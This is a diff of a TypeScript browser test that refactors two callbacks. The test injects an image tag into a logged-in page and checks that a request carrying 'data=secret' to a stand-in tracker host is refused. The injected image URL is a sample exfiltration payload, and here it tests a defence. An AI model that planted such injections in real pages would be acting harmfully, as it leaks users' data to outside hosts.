@@ -114,7 +114,10 @@ describe.skipIf(!hasChromium)("replies as the page shows them", () => {
     const context = await stack.newContext();
     // Stands in for any https host: Chromium asks here for whatever it would fetch there.
     const asked: string[] = [];
-    await context.route("https://tracker.example.test/**", (route) => (asked.push(route.request().url()), route.fulfill({ body: "" })));
+    await context.route("https://tracker.example.test/**", (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ body: "" });
+    });
     const page = await context.newPage();
     const inject = (p: Page) =>
       p.evaluate(() => {
@@ -122,7 +125,10 @@ describe.skipIf(!hasChromium)("replies as the page shows them", () => {
         img.src = "https://tracker.example.test/slipped.png?data=secret";
         img.alt = "slipped";
         document.body.append(img);
-        return new Promise<string>((resolve) => ((img.onload = () => resolve("loaded")), (img.onerror = () => resolve("refused"))));
+        return new Promise<string>((resolve) => {
+          img.onload = () => resolve("loaded");
+          img.onerror = () => resolve("refused");
+        });
       });
     await logInLocally(page, "mona");
     expect(await inject(page)).toBe("refused");
